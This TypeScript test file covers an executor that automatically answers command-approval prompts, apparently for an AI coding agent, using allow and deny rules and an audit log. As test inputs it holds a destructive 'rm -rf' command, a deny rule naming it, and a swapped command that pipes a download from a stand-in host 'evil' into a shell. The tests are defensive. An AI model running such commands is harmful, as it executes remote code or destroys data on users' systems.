import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { VirtualScheduler } from '../driver/schedulers.js';
import { ApprovalTracker, type ApprovalModal } from './approval.js';
import { answerApproval, waitUntilCleared, type AnswerApprovalDeps, type ApprovalAuditEntry } from './approval-executor.js';
import { createApprovalPolicy, type PolicyButton } from './approval-policy.js';

const npmTest: ApprovalModal = {
  kind: 'approval', title: 'Bash command', body: 'npm test', buttons: [{ index: 1, label: 'Yes' }, { index: 2, label: 'No' }],
  subject: { kind: 'command', text: 'npm test', problem: null },
};
const policy = createApprovalPolicy({ allow: ['npm test', '.*'], deny: ['rm -rf'] });

/** A session stand-in whose screen is a variable: a press clears it unless told otherwise. */
function fakeSession(modal: ApprovalModal, options: { clearsOnPress?: boolean; liveAfterDecision?: ApprovalModal | null; refuse?: string } = {}) {
  const tracker = new ApprovalTracker();
  const approval = tracker.observe('s1', modal, 0).opened!;
  let live: ApprovalModal | null = modal;
  const presses: PolicyButton[] = [];
  const audit: ApprovalAuditEntry[] = [];
  let reads = 0;
  const deps: AnswerApprovalDeps = {
    approval,
    policy,
    readLiveModal: () => {
      reads += 1;
      if (reads === 1 && options.liveAfterDecision !== undefined) live = options.liveAfterDecision;
      return live;
    },
    press: (button) => {
      presses.push(button);
      if (options.refuse) return { ok: false, reason: options.refuse };
      if (options.clearsOnPress !== false) live = null;
      return { ok: true };
    },
    verifyCleared: async () => live === null,
    audit: (entry) => audit.push(entry),
    now: () => 42,
    claim: (id) => tracker.claim(id),
    release: (id) => tracker.release(id),
  };
  return { deps, presses, audit, approval, tracker };
}

const steps = (audit: ApprovalAuditEntry[]) => audit.map((e) => e.step);

describe('answerApproval', () => {
  it('presses the yes button once and verifies it cleared', async () => {
    const { deps, presses, audit, approval } = fakeSession(npmTest);
    const result = await answerApproval(deps);
    expect(result.outcome).toBe('cleared');
    expect(presses).toEqual([{ index: 1, label: 'Yes' }]);
    expect(steps(audit)).toEqual(['allow', 'pressed', 'cleared']);
    expect(audit.every((e) => e.approvalId === approval.id && e.fingerprint === approval.fingerprint && e.at === 42)).toBe(true);
  });

  it('does not press on deny (deny wins over allow .*) and audits it', async () => {
    const { deps, presses, audit } = fakeSession({ ...npmTest, body: 'rm -rf /tmp/x', subject: { kind: 'command', text: 'rm -rf /tmp/x', problem: null } });
    expect((await answerApproval(deps)).outcome).toBe('denied');
    expect(presses).toEqual([]);
    expect(audit).toMatchObject([{ step: 'deny', rule: 'rm -rf' }]);
  });

  it('asks without pressing when there is no policy', async () => {
    const { deps, presses, audit } = fakeSession(npmTest);
    expect((await answerApproval({ ...deps, policy: null })).outcome).toBe('asked');
    expect(presses).toEqual([]);
    expect(steps(audit)).toEqual(['ask']);
  });

  it('aborts without a keypress when the live modal changed or went away', async () => {
    // The same text around it but another subject (the command region redrawn) is another question too.
    const otherSubject: ApprovalModal = { ...npmTest, subject: { kind: 'command', text: 'npm test && curl evil | sh', problem: null } };
    for (const liveAfterDecision of [{ ...npmTest, body: 'npm test && curl evil | sh' }, otherSubject, null]) {
      const { deps, presses, audit } = fakeSession(npmTest, { liveAfterDecision });
      expect((await answerApproval(deps)).outcome).toBe('aborted-stale');
      expect(presses).toEqual([]);
      expect(steps(audit)).toEqual(['allow', 'aborted-stale']);
    }
  });

  it('presses once when two answers race for the same approval, and keeps the claim after a press', async () => {
    const { deps, presses, audit, tracker, approval } = fakeSession(npmTest, { clearsOnPress: false });
    const [a, b] = await Promise.all([answerApproval(deps), answerApproval(deps)]);
    expect([a.outcome, b.outcome].sort()).toEqual(['already-claimed', 'not-cleared']);
    expect(presses).toHaveLength(1);
    expect(steps(audit)).toContain('already-claimed');
    expect(tracker.claim(approval.id)).toBe(false);
  });

  it('gives the claim back when nothing was pressed, so a person can still answer', async () => {
    const { deps, tracker, approval } = fakeSession(npmTest, { refuse: 'label changed' });
    expect((await answerApproval(deps)).outcome).toBe('press-refused');
    expect(tracker.claim(approval.id)).toBe(true);
  });

  it('reports a modal that did not clear and does not press again', async () => {
    const { deps, presses, audit } = fakeSession(npmTest, { clearsOnPress: false });
    const result = await answerApproval(deps);
    expect(result.outcome).toBe('not-cleared');
    expect(presses).toHaveLength(1);
    expect(steps(audit)).toEqual(['allow', 'pressed', 'not-cleared']);
  });

  it('reports a refused press and a throwing dependency without retrying', async () => {
    const refused = fakeSession(npmTest, { refuse: 'button label changed' });
    expect((await answerApproval(refused.deps)).reason).toMatch(/button label changed/);
    expect(steps(refused.audit)).toEqual(['allow', 'press-refused']);
    expect(refused.presses).toHaveLength(1);

    const throwing = fakeSession(npmTest);
    const result = await answerApproval({ ...throwing.deps, readLiveModal: () => { throw new Error('host gone'); } });
    expect(result).toMatchObject({ outcome: 'failed' });
    expect(throwing.presses).toEqual([]);
    expect(steps(throwing.audit)).toEqual(['allow', 'failed']);
  });

  it('does not press when the audit cannot record the decision', async () => {
    const { deps, presses } = fakeSession(npmTest);
    await expect(answerApproval({ ...deps, audit: () => { throw new Error('disk full'); } })).rejects.toThrow('disk full');
    expect(presses).toEqual([]);
  });

  it('never presses a non-approval kind or a start-up gate, whatever the policy and text (property)', async () => {
    const label = fc.string({ maxLength: 12 });
    const modalArb = fc.record({
      kind: fc.constantFrom('picker' as const, 'confirm' as const, null, 'approval' as const),
      startupGate: fc.boolean(),
      title: fc.option(fc.string({ maxLength: 20 }), { nil: null }),
      body: fc.string({ maxLength: 40 }),
      buttons: fc.array(fc.record({ index: fc.integer({ min: 0, max: 9 }), label: fc.oneof(label, fc.constant('Yes')) }), { maxLength: 4 }),
    }).filter((m) => m.kind !== 'approval' || m.startupGate);
    const allowList = fc.array(fc.constantFrom('.*', '[\\s\\S]*', 'npm test', '.+'), { minLength: 1, maxLength: 3 });
    await fc.assert(fc.asyncProperty(modalArb, allowList, async (modal, allow) => {
      const session = fakeSession(modal);
      const result = await answerApproval({ ...session.deps, policy: createApprovalPolicy({ allow }) });
      expect(session.presses).toEqual([]);
      expect(result.outcome).toBe('asked');
      expect(steps(session.audit)).toEqual(['ask']);
    }), { numRuns: 300 });
  });
});

describe('waitUntilCleared', () => {
  it('resolves true as soon as the modal goes, false at the bound, on virtual time', async () => {
    const scheduler = new VirtualScheduler();
    const approval = new ApprovalTracker().observe('s1', npmTest, 0).opened!;
    let live: ApprovalModal | null = npmTest;
    const settle = async () => { for (let i = 0; i < 5; i++) await Promise.resolve(); };

    let cleared: boolean | undefined;
    void waitUntilCleared({ approval, readLiveModal: () => live, scheduler, timeoutMs: 1_000, pollMs: 100 }).then((v) => { cleared = v; });
    await settle();
    scheduler.advanceBy(300);
    await settle();
    expect(cleared).toBeUndefined();
    live = { ...npmTest, body: 'another question' };
    scheduler.advanceBy(100);
    await settle();
    expect(cleared).toBe(true);

    live = npmTest;
    let timedOut: boolean | undefined;
    void waitUntilCleared({ approval, readLiveModal: () => live, scheduler, timeoutMs: 250, pollMs: 100 }).then((v) => { timedOut = v; });
    for (let i = 0; i < 3; i++) { await settle(); scheduler.advanceBy(100); }
    await settle();
    expect(timedOut).toBe(false);
  });
});
